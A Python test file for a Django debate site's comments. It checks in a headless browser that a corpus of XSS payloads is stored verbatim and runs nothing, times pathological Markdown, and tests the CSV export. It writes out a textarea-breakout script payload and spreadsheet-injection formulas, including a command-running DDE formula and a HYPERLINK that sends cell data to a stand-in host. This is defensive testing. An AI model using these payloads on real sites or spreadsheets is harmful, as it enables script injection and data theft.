"""Hostile comments: the corpus in tests/data/hardening/xss_payloads.txt, posted as a
verified official and read back in headless Chromium.

Most payloads go in through the service the comment view calls (`commenting.comment_post`,
after the form's checks); a sample from every category goes through the real form in
the browser, and the payloads with a NUL byte through the real form over HTTP (the form
refuses them). Then the debate is read page by page, twice: once with the page's
Content-Security-Policy bypassed, so the sanitiser is the only defence, and once as
served, where nothing may even try to run (no CSP report in the console).

Every payload must: be stored exactly as typed; run nothing (no dialog, no
`window.__pwned`); load nothing from elsewhere; leave only the allowed tags and
attributes, and links to http(s)/mailto as the browser resolves them; keep the text
around it and its own harmless text readable.
"""

from __future__ import annotations

import csv
import os
import time
from collections import Counter
from urllib.parse import urlsplit

import pytest
from django.contrib.auth import get_user_model
from django.test import Client
from django.urls import reverse
from django_comments_xtd.models import XtdComment
from playwright.sync_api import expect

from tests.hardening.conftest import report
from tests.hardening.payloads import Payload, payloads_load

PAYLOADS = payloads_load()
HARDEN = os.environ.get("CONCERTEM_HARDEN") == "1"
DEBATE = "/ca/revisio-formula-2027/pes-de-la-poblacio/"
OFFICIAL = ("alcaldessa.vic", "concertem-official")

# The sanitiser's output (debates/markup.py) plus what html5 parsing adds.
ALLOWED_TAGS = {
    "a", "p", "br", "strong", "em", "b", "i", "ul", "ol", "li", "blockquote", "code", "pre",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {"href", "title", "rel", "lang"}
ALLOWED_SCHEMES = {"http", "https", "mailto"}


def _browser_sample() -> list[Payload]:
    """The first payload of every category (and the page-structure breakers), without NUL
    bytes (a browser textarea cannot carry one: the NUL payloads go over HTTP)."""
    seen: Counter[str] = Counter()
    sample = []
    for payload in PAYLOADS:
        limit = 3 if payload.category == "structure" else 1
        if payload.has_nul or seen[payload.category] >= limit:
            continue
        seen[payload.category] += 1
        sample.append(payload)
    return sample


BROWSER_SAMPLE = _browser_sample()


def _squash(text: str) -> str:
    return " ".join(text.split())


# ---- The corpus itself (no database, no browser) ----


def test_the_corpus_is_large_and_covers_every_family():
    assert len(PAYLOADS) >= 100
    families = Counter(p.category for p in PAYLOADS)
    expected = {
        "script", "handler", "svg", "url", "markdown", "entity", "unicode", "css", "template",
        "sql", "structure",
    }  # fmt: skip
    assert set(families) == expected, families
    assert len(BROWSER_SAMPLE) >= 10
    # Obfuscations the corpus promises: encoded schemes, RTL override, zero width,
    # homoglyph scheme, NUL bytes, CSS expression, template tags.
    texts = "\n".join(p.text for p in PAYLOADS)
    for needle in (
        "&#106;",
        "%6A",
        "\u202e",
        "\u200b",
        "\u0458avascript",
        "\0",
        "expression(",
        "{{",
        "{%",
        "vbscript:",
        "data:",
    ):
        assert needle in texts, needle


# ---- Posting and reading back ----


@pytest.fixture
def debate_world(live_server, settings):
    from debates.demo_content import demo_debates_load

    # The corpus is posted by one official in one go: lift the per-user rate limit.
    settings.DEBATES_COMMENT_RATE_LIMIT = (100_000, 60)
    debates = demo_debates_load()
    user = get_user_model().objects.get(username=OFFICIAL[0])
    return live_server.url, debates["open"], user


def _post_through_services(debate, user) -> dict[int, int]:
    from debates import commenting

    posted = {}
    sample = {p.number for p in BROWSER_SAMPLE}
    for payload in PAYLOADS:
        if payload.number in sample or payload.has_nul:
            continue
        comment = commenting.comment_post(user=user, debate=debate, text=payload.comment)
        posted[payload.number] = comment.pk
    return posted


def _post_nul_over_http(debate, user) -> list[str]:
    """The real form over HTTP: a NUL byte is refused with a 400 page that says so (the
    form was not altered: the text has a character that cannot be stored), never a 500,
    and the text comes back to its author without the NUL byte."""
    from debates.forms import NULL_CHARACTER_CODE, DebateCommentForm

    problems = []
    client = Client()
    client.force_login(user)
    for payload in (p for p in PAYLOADS if p.has_nul):
        data = dict(DebateCommentForm(debate).initial)
        data.update({"comment": payload.comment, "followup": "on"})
        response = client.post(reverse("debates:comment-post", args=[debate.pk]), data)
        body = response.content.decode()
        if response.status_code != 400 or f'data-code="{NULL_CHARACTER_CODE}"' not in body:
            code = body.split('data-code="', 1)[-1].split('"', 1)[0] if "data-code" in body else ""
            problems.append(
                f"{payload.label}: HTTP {response.status_code} ({code or 'no code'}), expected "
                f"a 400 page with {NULL_CHARACTER_CODE}"
            )
        if "NUL" not in body:
            problems.append(f"{payload.label}: the refusal does not name the NUL byte")
        if "\0" in body or payload.start not in body:
            problems.append(f"{payload.label}: the text is not given back without its NUL")
        if "Traceback" in body:
            problems.append(f"{payload.label}: traceback in the response")
        if XtdComment.objects.filter(comment__contains=payload.start).exists():
            problems.append(f"{payload.label}: stored although refused")
    return problems


def _log_in(page, site_url):
    page.goto(f"{site_url}/ca/accounts/login/?next={DEBATE}")
    page.fill("#id_username", OFFICIAL[0])
    page.fill("#id_password", OFFICIAL[1])
    page.locator("main form button[type=submit]").click()
    page.wait_for_url(f"{site_url}{DEBATE}")


class Watch:
    """Everything a page does that a payload could have caused."""

    def __init__(self, site_url: str) -> None:
        self.site = site_url
        self.dialogs: list[str] = []
        self.console: list[str] = []
        self.foreign_requests: list[str] = []
        self.site_requests: list[str] = []

    def attach(self, page) -> None:
        def on_dialog(dialog):
            self.dialogs.append(f"{dialog.type}: {dialog.message} on {page.url}")
            dialog.dismiss()

        page.on("dialog", on_dialog)
        page.on("console", lambda m: m.type == "error" and self.console.append(m.text))
        page.on("pageerror", lambda e: self.console.append(f"pageerror: {e}"))
        page.on("request", self._request)

    def _request(self, request) -> None:
        url = request.url
        if url.startswith(("data:", "blob:", "about:")):
            self.foreign_requests.append(url[:120])
        elif not url.startswith(self.site):
            self.foreign_requests.append(url)
        else:
            self.site_requests.append(urlsplit(url).path)


def _expected_request(path: str) -> bool:
    # The debate itself, its static files, logging in and posting: an injected image,
    # stylesheet or frame would ask for some other path.
    return path == DEBATE or path.startswith(
        ("/static/", "/favicon.ico", "/ca/accounts/login/", "/debates/")
    )


def _pwned(page) -> bool:
    return bool(page.evaluate("() => Boolean(window.__pwned || window.top.__pwned)"))


# Reads every rendered comment's text and markup, and pokes every element in it with the
# events inline handlers listen for (nothing is clicked: links are checked by their href).
AUDIT_JS = """
() => {
  const events = ['mouseover', 'mouseenter', 'pointerenter', 'focus', 'blur', 'toggle',
                  'animationstart', 'load', 'error', 'beforetoggle'];
  const out = {};
  for (const li of document.querySelectorAll('li.comment')) {
    const text = li.querySelector(':scope > article .comment__text');
    if (!text) continue;
    const nodes = [];
    for (const el of text.querySelectorAll('*')) {
      for (const type of events) el.dispatchEvent(new Event(type));
      nodes.push({
        tag: el.tagName.toLowerCase(),
        attrs: Array.from(el.attributes).map(a => a.name),
        href: el.tagName === 'A' && el.hasAttribute('href') ? el.href : null,
      });
    }
    out[li.id.slice(1)] = {text: text.innerText, nodes: nodes};
  }
  return out;
}
"""


def _read_all_pages(context, site_url, watch) -> dict[str, dict]:
    page = context.new_page()
    watch.attach(page)
    seen: dict[str, dict] = {}
    number = 1
    url = f"{site_url}{DEBATE}"
    while True:
        page.goto(url)
        # Each window of threads shows the first replies; the rest come in place.
        more = page.locator("[data-more-replies] a")
        while more.count():
            left = more.count()
            more.first.click()
            expect(more).to_have_count(left - 1)
        seen.update(page.evaluate(AUDIT_JS))
        page.wait_for_timeout(50)  # let any timer-driven payload fire
        if _pwned(page):
            watch.dialogs.append(f"window.__pwned set on page {number}")
        following = page.locator("a[rel=next]")
        if following.count() == 0:
            break
        url = f"{site_url}{DEBATE}{following.first.get_attribute('href').split('#')[0]}"
        number += 1
    page.close()
    return seen


def _check_payload(payload: Payload, comment_id: int, rendered: dict | None) -> list[str]:
    problems = []
    stored = XtdComment.objects.get(pk=comment_id).comment
    if stored != payload.comment:
        problems.append(f"stored text differs: {stored[:80]!r}")
    if rendered is None:
        return [*problems, "not on any page of the debate"]
    for node in rendered["nodes"]:
        if node["tag"] not in ALLOWED_TAGS:
            problems.append(f"tag <{node['tag']}> in the page")
        extra = set(node["attrs"]) - ALLOWED_ATTRIBUTES
        if extra:
            problems.append(f"attributes {sorted(extra)} on <{node['tag']}>")
        if node["href"] is not None:
            scheme = urlsplit(node["href"]).scheme.lower()
            if scheme not in ALLOWED_SCHEMES:
                problems.append(f"link resolves to {node['href'][:60]!r}")
    visible = _squash(rendered["text"])
    wanted = [payload.start, *payload.visible]
    if not payload.swallows_rest:
        wanted.append(payload.end)
    for fragment in wanted:
        if _squash(fragment) not in visible:
            problems.append(f"{fragment[:50]!r} not readable in {visible[:120]!r}")
    return problems


@pytest.mark.browser
@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_hostile_comments_are_stored_as_typed_and_run_nothing(browser, debate_world):
    site_url, debate, user = debate_world
    started = time.monotonic()
    problems: list[str] = []

    posted = _post_through_services(debate, user)
    problems += _post_nul_over_http(debate, user)

    timings = {"service and HTTP posts": time.monotonic() - started}

    # ---- A sample through the real form, in the browser ----
    posting = Watch(site_url)
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    page = context.new_page()
    posting.attach(page)
    _log_in(page, site_url)
    for payload in BROWSER_SAMPLE:
        page.goto(f"{site_url}{DEBATE}")
        page.fill("#id_comment", payload.comment)
        page.get_by_role("button", name="Publica", exact=True).click()
        # Posted in place (debates.js): done when the box empties or a refusal shows.
        for _ in range(200):  # (the CSP forbids wait_for_function's string evaluation)
            if page.input_value("#id_comment") == "" or page.locator("[data-post-error]").count():
                break
            page.wait_for_timeout(50)
        stored = XtdComment.objects.filter(comment__contains=payload.start).first()
        if stored is None:
            problems.append(f"{payload.label}: the form did not publish it ({page.url})")
            continue
        posted[payload.number] = stored.pk
        if _pwned(page):
            problems.append(f"{payload.label}: window.__pwned set right after posting")

    problems += [f"[posting] {d}" for d in (*posting.dialogs, *posting.console)]
    problems += [f"[posting] request outside the site: {u}" for u in posting.foreign_requests]

    # A refused post shows the text again in the form: it must stay inside the textarea
    # (the refusal's own 400 is expected, so this page's console is not checked).
    breakout = "</textarea><script>window.__pwned=1</script><img src=x onerror=alert(1)>"
    too_long = breakout + " " + "x" * 3001
    page.goto(f"{site_url}{DEBATE}")
    page.evaluate("() => document.getElementById('id_comment').removeAttribute('maxlength')")
    page.fill("#id_comment", too_long)
    page.get_by_role("button", name="Publica", exact=True).click()
    refusal = page.locator("[data-post-error] [data-code]")  # shown next to the form
    refusal.wait_for()
    assert refusal.get_attribute("data-code") == "comment-too-long"
    kept = page.input_value("#id_comment").replace("\r\n", "\n")
    if kept != too_long:
        problems.append(f"refused text not kept verbatim in the form: {kept[:80]!r}")
    if _pwned(page):
        problems.append("window.__pwned set by the refused post's form")
    if posting.dialogs:
        problems.append(f"dialog after the refused post: {posting.dialogs}")
    context.close()
    timings["browser posts"] = time.monotonic() - started - sum(timings.values())

    # ---- Reading: the sanitiser alone (CSP bypassed), then as served ----
    watch = Watch(site_url)
    bare = browser.new_context(bypass_csp=True, viewport={"width": 1280, "height": 900})
    rendered = _read_all_pages(bare, site_url, watch)
    bare.close()
    served_watch = Watch(site_url)
    served = browser.new_context(viewport={"width": 375, "height": 900})
    served_rendered = _read_all_pages(served, site_url, served_watch)
    served.close()
    timings["reading"] = time.monotonic() - started - sum(timings.values())

    for payload in PAYLOADS:
        if payload.has_nul:
            continue
        comment_id = posted.get(payload.number)
        if comment_id is None:
            problems.append(f"{payload.label}: never posted")
            continue
        found = _check_payload(payload, comment_id, rendered.get(str(comment_id)))
        problems += [f"{payload.label}: {problem}" for problem in found]
    assert set(rendered) == set(served_rendered)

    for name, seen in (("bypassed CSP", watch), ("served", served_watch)):
        problems += [f"[{name}] dialog: {d}" for d in seen.dialogs]
        problems += [f"[{name}] request outside the site: {u}" for u in seen.foreign_requests]
        unexpected = sorted({p for p in seen.site_requests if not _expected_request(p)})
        problems += [f"[{name}] unexpected request on the site: {p}" for p in unexpected]
        problems += [f"[{name}] console: {c}" for c in seen.console]

    checked = len([p for p in PAYLOADS if not p.has_nul])
    report(
        f"hostile comments: {len(PAYLOADS)} payloads ({checked} published and read back, "
        f"{len(BROWSER_SAMPLE)} through the browser form, "
        f"{len(PAYLOADS) - checked} with NUL refused over HTTP), "
        f"{len(problems)} problems, {time.monotonic() - started:.0f} s "
        f"({', '.join(f'{k} {v:.0f} s' for k, v in timings.items())})"
    )
    assert problems == [], "\n".join(problems)


# ---- Cost of rendering: pathological Markdown ----
# The longest comment allowed (3,000 characters) shaped to make a Markdown parser work
# hard. A post renders its text once (commenting.comment_text_prepare: the readability
# check and the stored HTML share it), synchronously, in a web worker.
PATHOLOGICAL = {
    "nested brackets": "[" * 1495 + "]" * 1495,
    "unclosed links": "[a](" * 748,
    "nested links": "[" * 599 + "a" + "](b)" * 599,
    "unclosed brackets then text": "[" * 1000 + "a" * 1990,
    "unclosed references": "[a][" * 747,
    "unclosed images": "![a](" * 598,
    "titles never closed": '[a]("b)' * 427,
    "emphasis": "*a**" * 747,
    "deep quotes": "> " * 1495 + "x",
    "open tags": "<b>" * 997,
    "angle brackets": "<" * 2990,
}
RENDER_BUDGET_S = 1.0
# Cases found too slow and not fixed yet (none today): they carry the xfail below, and
# with CONCERTEM_HARDEN=1 they fail for real. Python-Markdown's quadratic link scanning
# (up to 2.2 s for "nested brackets") is bounded in debates/markup.py.
SLOW_TODAY: set[str] = set()
FINDING = pytest.mark.xfail(
    not HARDEN,
    # Not strict: a timing near the budget may pass on a quiet machine; harden.sh is
    # where these count.
    strict=False,
    reason="finding: this comment shape renders slower than the budget; CONCERTEM_HARDEN=1 "
    "fails on it",
)


@pytest.mark.skipif(
    not HARDEN, reason="timed against a budget: runs in `make harden`, not in `make test`"
)
@pytest.mark.parametrize(
    "name", [pytest.param(n, marks=[FINDING] if n in SLOW_TODAY else []) for n in PATHOLOGICAL]
)
def test_a_pathological_comment_renders_within_budget(name):
    from debates.commenting import comment_text_prepare
    from debates.rules import DebateActionError

    text = PATHOLOGICAL[name]
    assert len(text) <= 3000
    started = time.perf_counter()
    try:
        comment_text_prepare(text)  # what commenting.comment_post renders
    except DebateActionError as refusal:  # refused as unreadable: fine, if quick
        assert refusal.status == 400
    elapsed = time.perf_counter() - started
    assert elapsed < RENDER_BUDGET_S, f"{name}: {elapsed:.2f} s for one post's rendering"


# ---- The contributions as open data ----

SPREADSHEET_FORMULAS = [
    '=HYPERLINK("https://127.0.0.1:9/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    '\tline "with" quotes,\ncommas; and\r\nbreaks',
]


@pytest.mark.django_db
def test_hostile_comments_survive_the_open_data_export(tmp_path, settings):
    """Every hostile comment comes out of the CSV as one row whose text is the comment's
    plain text: no broken rows (quotes, commas, line breaks), nothing lost."""
    from concertem.home.demo_content import home_tree_ensure
    from debates import commenting
    from debates.export import contributions_export
    from debates.markup import comment_plain_text
    from tests.debates.factories import OfficialFactory, UserFactory, make_debate, make_space

    settings.DEBATES_COMMENT_RATE_LIMIT = (100_000, 60)
    debate = make_debate(make_space(home_tree_ensure()["ca"], slug="hostile"), slug="hostile")
    official = OfficialFactory(user=UserFactory(username="hostile"), entity_code="08298")
    texts = [p.comment for p in PAYLOADS if not p.has_nul]
    texts += [f"HXF{index}\n\n{formula}" for index, formula in enumerate(SPREADSHEET_FORMULAS)]
    ids = {}
    for text in texts:
        ids[commenting.comment_post(user=official.user, debate=debate, text=text).pk] = text
    csv_path, _schema = contributions_export(out_dir=tmp_path, debates=[debate])
    with csv_path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == len(ids)
    by_id = {int(row["comment_id"]): row for row in rows}
    problems = [
        f"comment {pk}: {by_id[pk]['text'][:60]!r} != {comment_plain_text(text)[:60]!r}"
        for pk, text in ids.items()
        if by_id[pk]["text"] != comment_plain_text(text).replace("\r\n", "\n")
    ]
    assert problems == [], "\n".join(problems)
